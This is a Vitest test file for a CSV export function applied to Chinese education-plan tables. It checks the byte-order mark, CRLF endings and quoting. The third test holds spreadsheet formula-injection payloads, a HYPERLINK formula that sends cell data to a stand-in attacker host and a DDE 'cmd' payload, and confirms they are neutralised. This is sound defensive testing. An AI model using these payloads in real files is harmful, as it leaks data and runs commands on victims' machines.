import { expect, test } from 'vitest';
import { CSV_BOM, tableCsv } from '../../src/lib/table-csv.ts';

test('starts with a byte-order mark and ends every row with CRLF', () => {
  const csv = tableCsv({ header: ['指标', '2020年', '2025年', '属性'], rows: [['学前三年毛入园率（%）', '99.51', '99.54', '约束性']] });
  expect(csv).toBe(`${CSV_BOM}指标,2020年,2025年,属性\r\n学前三年毛入园率（%）,99.51,99.54,约束性\r\n`);
  expect(Buffer.from(csv, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
});

test('quotes cells with commas, quotes, line breaks or edge spaces, and keeps them as printed', () => {
  const csv = tableCsv({
    header: ['主要任务', '落实举措及标志性成果'],
    rows: [
      ['（一）实施新时代立德树人行动计划', '开展"双减",落实\n课后服务'],
      [' 区教育局', '>99'],
    ],
  });
  expect(csv.split('\r\n')).toEqual([
    `${CSV_BOM}主要任务,落实举措及标志性成果`,
    '（一）实施新时代立德树人行动计划,"开展""双减"",落实\n课后服务"',
    '" 区教育局",>99',
    '',
  ]);
});

test('neutralises cells a spreadsheet would run as formulas, the way OWASP recommends, and keeps numbers numbers', () => {
  const csv = tableCsv({
    header: ['指标', '2025年'],
    rows: [
      ['=HYPERLINK("https://evil.example/?"&A1,"学前三年毛入园率")', '-0.3'],
      ['@SUM(A1:A9)', '+5'],
      ["-3+cmd|' /C calc'!A0", '-12%'],
      ['\t=1+1', '≥95'],
    ],
  });
  expect(csv.split('\r\n').slice(1, -1)).toEqual([
    `"'=HYPERLINK(""https://evil.example/?""&A1,""学前三年毛入园率"")",-0.3`,
    `'@SUM(A1:A9),+5`,
    `'-3+cmd|' /C calc'!A0,-12%`,
    `'\t=1+1,≥95`,
  ]);
});
